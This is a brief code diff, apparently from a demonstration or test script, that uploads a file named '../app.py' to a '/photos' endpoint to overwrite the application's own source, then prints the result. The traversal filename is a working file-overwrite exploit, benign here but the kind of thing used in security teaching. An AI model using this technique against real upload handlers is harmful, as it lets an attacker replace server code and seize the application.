@@ -17,5 +17,6 @@ def take_photo():
     return "", 201
 
 
-app.test_client().post("/photos", data={"photo": (BytesIO(b"print('mine now')"), "../app.py")})
+attack = (BytesIO(b"print('mine now')"), "../app.py")
+app.test_client().post("/photos", data={"photo": attack})
 print((project / "app.py").read_text())
